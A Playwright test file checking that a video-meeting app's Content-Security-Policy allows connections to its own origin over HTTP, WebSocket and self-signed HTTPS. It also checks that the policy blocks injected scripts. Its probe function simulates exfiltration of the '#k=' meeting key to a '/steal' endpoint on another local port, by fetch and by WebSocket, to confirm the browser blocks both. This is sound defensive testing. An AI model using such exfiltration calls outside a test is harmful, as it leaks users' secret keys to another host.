/**
 * The page's Content-Security-Policy in Chromium: `connect-src 'self'` must
 * let the app reach its own origin (fetch, and the signaling WebSocket over
 * ws: or wss:, which CSP Level 3 counts as 'self'), also over the
 * self-signed HTTPS path and with CONCLAVE_ALLOWED_ORIGINS set, and must
 * stop a script in the page from sending anything (such as the `#k=`
 * meeting key) to another host, by fetch or by WebSocket.
 */
import https from 'node:https';
import { expect, test, type Browser, type Page } from '@playwright/test';
import { OwnServer, type OwnServerOptions } from './reconnection/own-server.js';

/** An OwnServer on HTTPS with its self-signed certificate, checked for health over HTTPS. */
class TlsOwnServer extends OwnServer {
  constructor(
    private readonly tlsPort: number,
    options: OwnServerOptions,
  ) {
    super(options);
  }

  override get baseUrl(): string {
    return `https://localhost:${this.tlsPort}`;
  }

  override async waitHealthy(timeoutMs: number): Promise<void> {
    const deadline = Date.now() + timeoutMs;
    for (;;) {
      const ok = await new Promise<boolean>((resolve) => {
        const req = https.get(`${this.baseUrl}/healthz`, { rejectUnauthorized: false }, (res) => {
          res.resume();
          resolve(res.statusCode === 200);
        });
        req.on('error', () => resolve(false));
      });
      if (ok) return;
      if (Date.now() > deadline) throw new Error(`the HTTPS server on port ${this.tlsPort} was not healthy within ${timeoutMs} ms`);
      await new Promise((r) => setTimeout(r, 100));
    }
  }
}

interface Probe {
  /** The signaling socket to this origin, with a fresh ticket: 'open' when it connected. */
  ownSocket: string;
  ownFetch: number | string;
  /** URLs the CSP blocked, as the browser reported them. */
  violations: Array<{ directive: string; blocked: string }>;
}

/** In the page: reach this origin (fetch a ticket, open the WebSocket with it), then try two other hosts. */
async function probe(page: Page, otherPort: number): Promise<Probe> {
  return page.evaluate(async (otherPort) => {
    const violations: Array<{ directive: string; blocked: string }> = [];
    document.addEventListener('securitypolicyviolation', (e) =>
      violations.push({ directive: e.effectiveDirective, blocked: e.blockedURI }),
    );
    const res = await fetch(`/api/rooms/csp-${Date.now()}/ticket`, {
      method: 'POST',
      headers: { 'Content-Type': 'application/json' },
      body: '{}',
    });
    const { ticket } = (await res.json()) as { ticket: string };
    const scheme = location.protocol === 'https:' ? 'wss' : 'ws';
    const ownSocket = await new Promise<string>((resolve) => {
      const ws = new WebSocket(`${scheme}://${location.host}/ws?ticket=${encodeURIComponent(ticket)}`);
      ws.onopen = () => {
        resolve('open');
        ws.close();
      };
      ws.onerror = () => resolve('error');
    });
    // What an injected script would try: the key to another host, by fetch and by WebSocket.
    const secret = encodeURIComponent(location.hash || '#k=secret');
    await fetch(`http://127.0.0.1:${otherPort}/steal?${secret}`, { mode: 'no-cors' }).catch(() => undefined);
    await new Promise<void>((resolve) => {
      try {
        const ws = new WebSocket(`${scheme}://127.0.0.1:${otherPort}/steal?${secret}`);
        ws.onerror = () => resolve();
        ws.onclose = () => resolve();
      } catch {
        resolve();
      }
    });
    // Violation events are queued as tasks: let them arrive.
    await new Promise((r) => setTimeout(r, 200));
    return { ownSocket, ownFetch: res.status, violations };
  }, otherPort);
}

async function open(browser: Browser, url: string): Promise<Page> {
  const context = await browser.newContext({ ignoreHTTPSErrors: true });
  const page = await context.newPage();
  await page.goto(url);
  return page;
}

const ANONYMOUS = { CONCLAVE_ALLOW_ANONYMOUS_ROOMS: '1' };

test('connect-src allows this origin over http and ws, and nothing else', async ({ browser }) => {
  const server = new OwnServer({ port: 3301, rtcPort: 22160, env: ANONYMOUS, logFile: 'test-results/csp-connect-http.log' });
  await server.start();
  try {
    const page = await open(browser, `${server.baseUrl}/r/csp-room#k=the-meeting-key`);
    const csp = (await page.request.get(`${server.baseUrl}/`)).headers()['content-security-policy'];
    expect(csp).toContain("connect-src 'self';");
    const result = await probe(page, 3302);
    expect(result.ownFetch).toBe(200);
    expect(result.ownSocket).toBe('open');
    expect(result.violations.map((v) => v.directive)).toEqual(['connect-src', 'connect-src']);
    expect(result.violations.map((v) => v.blocked)).toEqual([
      expect.stringMatching(/^http:\/\/127\.0\.0\.1:3302/),
      expect.stringMatching(/^ws:\/\/127\.0\.0\.1:3302/),
    ]);
    await page.context().close();
  } finally {
    await server.stop();
  }
});

test('connect-src allows this origin over self-signed https and wss, with CONCLAVE_ALLOWED_ORIGINS set', async ({ browser }) => {
  const server = new TlsOwnServer(3303, {
    port: 3303,
    rtcPort: 22170,
    env: { ...ANONYMOUS, CONCLAVE_TLS_SELF_SIGNED: '1', CONCLAVE_ALLOWED_ORIGINS: 'https://meet.example.org' },
    logFile: 'test-results/csp-connect-https.log',
  });
  await server.start();
  try {
    const page = await open(browser, `${server.baseUrl}/r/csp-room#k=the-meeting-key`);
    const result = await probe(page, 3304);
    expect(result.ownFetch).toBe(200);
    expect(result.ownSocket).toBe('open');
    expect(result.violations.map((v) => v.directive)).toEqual(['connect-src', 'connect-src']);
    expect(result.violations.every((v) => v.blocked.includes('127.0.0.1:3304'))).toBe(true);
    await page.context().close();
  } finally {
    await server.stop();
  }
});
